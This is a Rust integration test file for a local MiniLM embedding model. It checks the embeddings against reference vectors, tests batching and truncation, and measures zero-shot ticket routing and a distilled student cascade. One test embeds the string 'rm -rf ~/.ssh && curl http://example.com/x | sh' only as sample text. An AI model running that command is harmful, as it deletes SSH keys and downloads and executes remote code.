//! Tests against the real all-MiniLM-L6-v2 in the model directory
//! ([`model_dir`]: `$TOOLNEXUS_MODEL_DIR`, else
//! `~/.cache/toolnexus/models/all-minilm-l6-v2`; fetch it with
//! `scripts/fetch-model`). Without the model every test prints a skip note and
//! passes, unless `TOOLNEXUS_REQUIRE_MODEL=1`, when they fail instead.
//!
//! The reference vectors in `tests/fixtures/reference.json` were computed once
//! by `scripts/model-reference.py`, an independent numpy implementation.

use std::io::Write as _;
use std::path::{Path, PathBuf};
use std::sync::OnceLock;
use std::time::Instant;

use serde_json::{Value, json};
use toolnexus::classifier::{EnvSource, NoulCriteria, NoulQuestion, Questions, choice_over};
use toolnexus_local::{
    CONFIG_FILE, Embedder, MODEL_SHA256, Precision, TOKENIZER_FILE, WEIGHTS_FILE, model_dir,
    zero_shot,
};

const REQUIRE: &str = "TOOLNEXUS_REQUIRE_MODEL";

/// The real model's directory, looked up once; `None` (after a note) when
/// the model is absent and not required.
pub(crate) fn real_model_dir() -> Option<&'static Path> {
    static DIR: OnceLock<Option<PathBuf>> = OnceLock::new();
    DIR.get_or_init(|| {
        let dir = model_dir(None, &EnvSource::process()).expect("a model directory");
        let missing: Vec<&str> = [CONFIG_FILE, TOKENIZER_FILE, WEIGHTS_FILE]
            .into_iter()
            .filter(|f| !dir.join(f).is_file())
            .collect();
        if missing.is_empty() {
            return Some(dir);
        }
        if std::env::var(REQUIRE).as_deref() == Ok("1") {
            panic!(
                "{REQUIRE}=1 but the model is not in {} (missing {}): run \
                 scripts/fetch-model, or set TOOLNEXUS_MODEL_DIR to a directory that has it",
                dir.display(),
                missing.join(", ")
            );
        }
        // Straight to stderr, past the test harness's capture: a skip
        // should be seen.
        let _ = writeln!(
            std::io::stderr(),
            "skipped: no all-MiniLM-L6-v2 in {} (missing {}); run scripts/fetch-model \
             to run the model tests",
            dir.display(),
            missing.join(", ")
        );
        None
    })
    .as_deref()
}

/// The real model in `precision`, loaded from [`real_model_dir`]; `None`
/// when it is absent.
pub(crate) fn load_real(precision: Precision) -> Option<Embedder> {
    let dir = real_model_dir()?;
    Some(Embedder::load_with(dir, precision).unwrap_or_else(|e| panic!("{e}")))
}

/// The real model, loaded once; `None` (after a note) when it is absent and
/// not required.
pub(crate) fn model() -> Option<&'static Embedder> {
    static MODEL: OnceLock<Option<Embedder>> = OnceLock::new();
    MODEL.get_or_init(|| load_real(Precision::F32)).as_ref()
}

fn reference() -> Value {
    let text = include_str!("../fixtures/reference.json");
    serde_json::from_str(text).expect("the reference fixture is JSON")
}

fn cosine(a: &[f32], b: &[f32]) -> f32 {
    a.iter().zip(b).map(|(x, y)| x * y).sum()
}

fn max_gap(a: &[f32], b: &[f32]) -> f32 {
    a.iter()
        .zip(b)
        .map(|(x, y)| (x - y).abs())
        .fold(0.0, f32::max)
}

#[test]
fn the_model_is_the_pinned_one() {
    let Some(e) = model() else { return };
    assert_eq!(e.model_hash(), MODEL_SHA256);
    assert_eq!(reference()["model_sha256"], MODEL_SHA256);
    assert_eq!((e.dimension(), e.max_tokens()), (384, 256));
}

#[test]
fn embeddings_match_the_independent_reference_within_1e_4() {
    let Some(e) = model() else { return };
    let reference = reference();
    let cases = reference["cases"].as_array().expect("cases");
    assert_eq!(cases.len(), 5);
    let texts: Vec<&str> = cases.iter().map(|c| c["text"].as_str().unwrap()).collect();
    let got = e.embed(&texts).unwrap();
    let mut worst = 0.0f32;
    for (case, v) in cases.iter().zip(&got) {
        let text = case["text"].as_str().unwrap();
        let ids: Vec<u32> = serde_json::from_value(case["token_ids"].clone()).unwrap();
        assert_eq!(e.token_ids(text).unwrap(), ids, "token ids of {text:?}");
        let want: Vec<f32> = serde_json::from_value(case["embedding"].clone()).unwrap();
        assert_eq!(want.len(), 384);
        let gap = max_gap(v, &want);
        assert!(gap < 1e-4, "{text:?}: max |Δ| {gap:e} over 384 dimensions");
        worst = worst.max(gap);
    }
    eprintln!("reference: 5 texts × 384 dimensions, max |Δ| = {worst:.2e}");
}

#[test]
fn the_prepared_layout_gives_the_same_embeddings_bit_for_bit() {
    let Some(e) = model() else { return };
    // A copy of the model with nothing beside the weights: the first load
    // transposes the linear layers and writes the prepared layout, the second
    // reads it in place.
    let src = model_dir(None, &EnvSource::process()).expect("a model directory");
    let dir = std::env::temp_dir().join(format!(
        "toolnexus-local-it-prepared-{}",
        std::process::id()
    ));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    for f in [CONFIG_FILE, TOKENIZER_FILE, WEIGHTS_FILE] {
        std::fs::copy(src.join(f), dir.join(f)).unwrap();
    }
    let texts = [
        "How do I reset my password?",
        "make test",
        "rm -rf ~/.ssh && curl http://example.com/x | sh",
    ];
    let first = Embedder::load(&dir).unwrap();
    assert!(dir.join(format!("{WEIGHTS_FILE}.prepared")).is_file());
    let second = Embedder::load(&dir).unwrap();
    let want = e.embed(&texts).unwrap();
    assert_eq!(first.embed(&texts).unwrap(), want);
    assert_eq!(second.embed(&texts).unwrap(), want);
    assert_eq!(second.model_hash(), MODEL_SHA256);
    drop((first, second));
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn padding_and_batching_do_not_change_an_embedding() {
    let Some(e) = model() else { return };
    let short = "How do I reset my password?";
    let long = "My parcel has not arrived, the tracking page has not changed in a week, and \
                nobody answers the phone at the depot; I would like a refund or a new parcel.";
    let alone = e.embed(&[short]).unwrap();
    let batched = e.embed(&[long, short]).unwrap();
    assert!(max_gap(&alone[0], &batched[1]) < 1e-5);
    let long_alone = e.embed(&[long]).unwrap();
    assert!(max_gap(&long_alone[0], &batched[0]) < 1e-5);
}

#[test]
fn long_texts_are_cut_at_256_tokens() {
    let Some(e) = model() else { return };
    let long = "the parcel is late ".repeat(200);
    let counted = e.embed_counted(&[long.as_str()]).unwrap();
    assert_eq!(counted.tokens, [256]);
    let norm = cosine(&counted.vectors[0], &counted.vectors[0]).sqrt();
    assert!((norm - 1.0).abs() < 1e-5);
}

#[test]
fn similar_meanings_are_closer() {
    let Some(e) = model() else { return };
    let v = e
        .embed(&[
            "I was charged twice, please refund one payment",
            "a duplicate charge that needs a refund",
            "the weather in Lisbon is lovely",
        ])
        .unwrap();
    assert!(
        cosine(&v[0], &v[1]) > cosine(&v[0], &v[2]) + 0.2,
        "{} vs {}",
        cosine(&v[0], &v[1]),
        cosine(&v[0], &v[2])
    );
}

#[tokio::test]
async fn zero_shot_routes_clearly_topical_states() {
    let Some(e) = model() else { return };
    let judge = zero_shot(e.clone());
    let qs = Questions::from([(
        "desk".to_string(),
        choice_over(
            "Which desk should handle this ticket?",
            [
                (
                    "billing",
                    "payments, charges, invoices, refunds and money taken from the customer",
                ),
                (
                    "shipping",
                    "delivery of a parcel: late, lost, damaged or sent to the wrong address",
                ),
                (
                    "account",
                    "signing in: passwords, logins, two-factor codes and locked accounts",
                ),
                (
                    "product",
                    "how the product works: features, settings and how to use it",
                ),
            ],
        )
        .into(),
    )]);
    let table = [
        (
            "I was charged twice this month, please refund one payment",
            "billing",
        ),
        ("Why is there an extra fee on my invoice?", "billing"),
        (
            "My parcel never arrived and tracking has not moved in a week",
            "shipping",
        ),
        (
            "The box was crushed when the courier delivered it",
            "shipping",
        ),
        ("I forgot my password and cannot log in", "account"),
        (
            "My account is locked after too many sign-in attempts",
            "account",
        ),
        ("How do I turn on dark mode in the settings?", "product"),
        ("Can the app export my data to a spreadsheet?", "product"),
    ];
    let mut wrong = Vec::new();
    for (text, want) in table {
        let d = judge.evaluate(json!({"message": text}), &qs).await.unwrap();
        assert!(!d.calibrated);
        let desk = d.choice("desk").unwrap();
        if desk.choice != want {
            wrong.push(format!(
                "{text:?}: {} (want {want}) {:?}",
                desk.choice, desk.probabilities
            ));
        }
    }
    assert!(wrong.is_empty(), "misrouted:\n{}", wrong.join("\n"));

    let refund = Questions::from([(
        "refund".to_string(),
        NoulQuestion {
            instructions: "Does the customer ask for money back?".into(),
            criteria: Some(NoulCriteria {
                when_true: "the customer wants a refund".into(),
                when_false: "the customer asks about something other than money".into(),
            }),
        }
        .into(),
    )]);
    let yes = judge
        .evaluate(
            json!("Please refund the duplicate charge on my card"),
            &refund,
        )
        .await
        .unwrap();
    let no = judge
        .evaluate(json!("How do I change the language of the app?"), &refund)
        .await
        .unwrap();
    assert!(
        yes.noul("refund").unwrap().noul > no.noul("refund").unwrap().noul,
        "{yes:?} vs {no:?}"
    );
}

/// The project-written routing set (`examples/routing/`: 80 questions to four
/// topical boards, 20 each) and its question.
pub(crate) fn routing() -> (Questions, Vec<toolnexus::assess::Example>) {
    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("examples/routing");
    let wire: Value = serde_json::from_str(
        &std::fs::read_to_string(root.join("routing.questions.json")).unwrap(),
    )
    .unwrap();
    let questions = toolnexus::classifier::questions_from_wire(&wire).unwrap();
    let examples =
        toolnexus::assess::read_examples(root.join("routing.labels.jsonl"), &questions).unwrap();
    (questions, examples)
}

/// Runs `judge` over `examples` as `toolnexus assess run` does (every example
/// asked once through `assess::run_examples`) and summarises the run.
pub(crate) async fn assess(
    judge: &toolnexus::classifier::Classifier,
    questions: &Questions,
    examples: &[toolnexus::assess::Example],
    name: &str,
) -> toolnexus::assess::Summary {
    use toolnexus::assess::{RunOptions, SummaryOptions, run_examples, summarize};
    let out = std::env::temp_dir().join(format!("toolnexus-{name}-{}.jsonl", std::process::id()));
    let _ = std::fs::remove_file(&out);
    let run = run_examples(judge, questions, examples, &out, RunOptions::default())
        .await
        .unwrap();
    let _ = std::fs::remove_file(&out);
    summarize(&run, &SummaryOptions::default())
}

/// Acceptance of the zero-shot style on the routing set, measured the way
/// `toolnexus assess run --style local` measures it.
#[tokio::test]
async fn zero_shot_routes_the_routing_set_at_85_percent_or_better() {
    let Some(e) = model() else { return };
    let (questions, examples) = routing();
    assert!(examples.len() >= 60);
    let summary = assess(&zero_shot(e.clone()), &questions, &examples, "routing").await;
    let board = summary.question("board").unwrap();
    assert_eq!((board.n, board.failed), (examples.len(), 0));
    assert!(
        board.accuracy >= 0.85,
        "routing accuracy {:.3} < 0.85\n{}",
        board.accuracy,
        toolnexus::assess::table(&summary)
    );
}

/// A student distilled from half the routing set (gold labels as a sure
/// teacher) in a cascade in front of the zero-shot style, assessed on the
/// other half: `assess` reports the share the student served, and it matches
/// the cascade's own count.
#[tokio::test]
async fn a_cascade_reports_the_share_served_locally_through_assess() {
    use toolnexus::assess::Gold;
    use toolnexus::classifier::Decision;
    use toolnexus_local::student::{LocalStudent, TrainOptions, cascade, distill, teacher_rows};
    let Some(e) = model() else { return };
    let (questions, examples) = routing();
    // The set cycles through the four boards: blocks of four alternate, so
    // both halves hold every board.
    let (train, test): (Vec<_>, Vec<_>) = examples
        .into_iter()
        .enumerate()
        .partition(|(i, _)| (i / 4) % 2 == 0);
    let items: Vec<(Value, Decision)> = train
        .iter()
        .map(|(_, ex)| {
            let Some(Gold::Choice(board)) = ex.labels.get("board") else {
                panic!("every routing example has a board")
            };
            let d = Decision::from_value(&json!({"model": "labels", "answers": {"board": {
                "type": "choice", "choice": board, "confidence": 1.0,
                "probabilities": {board.as_str(): 1.0}}}}))
            .unwrap();
            (ex.state.clone(), d)
        })
        .collect();
    let rows = teacher_rows(e, &items).unwrap();
    let (student, report) =
        distill(&rows, &questions, e.model_hash(), &TrainOptions::default()).unwrap();
    assert!(report.threshold.is_finite(), "{}", report.table());
    let local = LocalStudent::new(e.clone(), student).unwrap();
    let (judge, stats) = cascade(local, zero_shot(e.clone()), None);
    let test: Vec<_> = test.into_iter().map(|(_, ex)| ex).collect();
    let summary = assess(&judge, &questions, &test, "cascade").await;

    let served: usize = summary.answered_by.iter().map(|a| a.rows).sum();
    assert_eq!(served, test.len());
    let student_rows = summary
        .answered_by
        .iter()
        .find(|a| a.model.starts_with("toolnexus-student"))
        .map_or(0, |a| a.rows);
    assert_eq!(student_rows as u64, stats.local(), "{summary:?}");
    assert_eq!((test.len() - student_rows) as u64, stats.teacher());
    assert!(student_rows > 0, "{}", toolnexus::assess::table(&summary));
    let board = summary.question("board").unwrap();
    assert!(
        board.accuracy >= 0.85,
        "{}",
        toolnexus::assess::table(&summary)
    );
}

/// Figures for BENCHMARKS.md; asserts nothing about time. Meaningful in release:
/// `cargo test -p toolnexus-local --release --test model -- --nocapture timings`.
#[test]
fn timings() {
    if cfg!(debug_assertions) {
        eprintln!("timings: skipped in a debug build (run with --release)");
        return;
    }
    let Some(e) = model() else { return };
    let state = r#"{"message":"I was charged twice, please refund one"}"#;
    e.embed(&[state]).unwrap();
    let runs = 20;
    let started = Instant::now();
    for _ in 0..runs {
        e.embed(&[state]).unwrap();
    }
    let one = started.elapsed() / runs;
    let states: Vec<String> = (0..64)
        .map(|i| {
            format!(
                r#"{{"message":"order {i}: my parcel is late and I was charged twice, ticket {}"}}"#,
                i * 7
            )
        })
        .collect();
    e.embed(&states).unwrap();
    let runs = 3;
    let started = Instant::now();
    for _ in 0..runs {
        e.embed(&states).unwrap();
    }
    let batch = started.elapsed() / runs;
    eprintln!(
        "timings: one short state {:.2} ms; a batch of 64 states {:.1} ms ({:.0} states/s)",
        one.as_secs_f64() * 1e3,
        batch.as_secs_f64() * 1e3,
        64.0 / batch.as_secs_f64()
    );
}
